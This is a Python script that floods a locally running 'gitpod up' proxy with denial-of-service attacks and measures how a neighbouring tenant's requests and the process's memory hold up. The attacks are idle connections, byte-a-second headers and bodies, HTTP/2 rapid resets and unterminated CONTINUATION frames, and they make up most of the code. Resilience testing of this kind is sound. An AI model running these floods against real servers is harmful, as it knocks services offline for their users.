"""Attacks a running `gitpod up` on this machine, and measures what another tenant notices.

Usage: python3 flood.py ADDRESS HOST TOKEN PID [--connections 10000] [--seconds 10]

HOST and TOKEN are of a port of the tenant's workspace, PID is that of `up`. For each attack it prints how
long the tenant's requests took, each on a new connection, how many failed, and the largest resident memory.

Only Python's standard library.
"""

import argparse
import asyncio
import multiprocessing
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x41\x01a"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


SETTINGS = frame(4, 0, 0, b"")


def tenant(address, host, token, stop, results):
    """Asks again and again; tells how long each answer took."""
    head = f"GET / HTTP/1.1\r\nhost: {host}\r\nx-gitpod-owner-token: {token}\r\nconnection: close\r\n\r\n"
    took, failed = [], 0
    while not stop.is_set():
        began = time.monotonic()
        try:
            with socket.create_connection(address, timeout=30) as stream:
                stream.sendall(head.encode())
                answer = b""
                while more := stream.recv(65536):
                    answer += more
            failed += not answer.startswith(b"HTTP/1.1 200 ")
        except OSError:
            failed += 1
        took.append(time.monotonic() - began)
        time.sleep(0.01)
    results.put((sorted(took), failed))


def resident(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:")) // 1024


async def until(deadline, connections, attack):
    """Keeps so many connections attacking."""
    async def one(number):
        while time.monotonic() < deadline:
            try:
                reader, writer = await asyncio.open_connection(*ADDRESS, limit=4096)
                try:
                    await attack(reader, writer, deadline)
                finally:
                    writer.transport.abort()
            except OSError:
                await asyncio.sleep(0.05)
        return number
    await asyncio.gather(*(one(number) for number in range(connections)))


async def silent(reader, writer, deadline):
    await asyncio.wait_for(reader.read(1), max(0.1, deadline - time.monotonic()))


async def slow_head(reader, writer, deadline):
    writer.write(b"GET / HTTP/1.1\r\nhost: a\r\nx: ")
    while time.monotonic() < deadline and not reader.at_eof():
        writer.write(b"y")
        await writer.drain()
        await asyncio.sleep(1)


def slow_body(host, token):
    head = f"POST / HTTP/1.1\r\nhost: {host}\r\nx-gitpod-owner-token: {token}\r\ncontent-length: 100000\r\n\r\n"

    async def attack(reader, writer, deadline):
        writer.write(head.encode())
        while time.monotonic() < deadline and not reader.at_eof():
            writer.write(b"y")
            await writer.drain()
            await asyncio.sleep(1)
    return attack


async def resets(reader, writer, deadline):
    writer.write(PREFACE + SETTINGS)
    stream = 1
    while time.monotonic() < deadline and not reader.at_eof():
        burst = b""
        for _ in range(100):
            burst += frame(1, 5, stream, GET) + frame(3, 0, stream, struct.pack(">I", 8))
            stream += 2
        writer.write(burst)
        await writer.drain()
        await asyncio.sleep(0)


async def continuations(reader, writer, deadline):
    writer.write(PREFACE + SETTINGS + frame(1, 1, 1, GET))
    field = frame(9, 0, 1, b"\x00\x01x\x01y" * 200)
    while time.monotonic() < deadline and not reader.at_eof():
        writer.write(field)
        await writer.drain()
        await asyncio.sleep(0)


def measure(name, args, connections, attack):
    stop, results = multiprocessing.Event(), multiprocessing.Queue()
    process = multiprocessing.Process(target=tenant, args=(ADDRESS, args.host, args.token, stop, results))
    process.start()
    largest = resident(args.pid)

    async def run():
        nonlocal largest
        deadline = time.monotonic() + args.seconds
        attacking = asyncio.ensure_future(until(deadline, connections, attack)) if attack else None
        while time.monotonic() < deadline:
            largest = max(largest, resident(args.pid))
            await asyncio.sleep(0.2)
        if attacking:
            attacking.cancel()
            await asyncio.gather(attacking, return_exceptions=True)
    asyncio.run(run())
    stop.set()
    took, failed = results.get()
    process.join()
    at = lambda part: 1000 * took[min(len(took) - 1, int(len(took) * part))]
    print(f"| {name} | {connections} | {len(took)} | {failed} | {at(.5):.0f} ms | {at(.99):.0f} ms | {largest} MiB |", flush=True)


parser = argparse.ArgumentParser()
parser.add_argument("address")
parser.add_argument("host")
parser.add_argument("token")
parser.add_argument("pid", type=int)
parser.add_argument("--connections", type=int, default=10000)
parser.add_argument("--seconds", type=float, default=10)
args = parser.parse_args()
ADDRESS = (args.address.rsplit(":", 1)[0], int(args.address.rsplit(":", 1)[1]))
print("| attack | connections | requests | failed | median | p99 | memory |\n|---|---|---|---|---|---|---|")
measure("none", args, 0, None)
measure("silent connections", args, args.connections, silent)
measure("heads, a byte a second", args, args.connections, slow_head)
measure("bodies, a byte a second", args, args.connections, slow_body(args.host, args.token))
measure("resets of HTTP/2", args, 50, resets)
measure("CONTINUATION without end", args, 50, continuations)
measure("none, afterwards", args, 0, None)
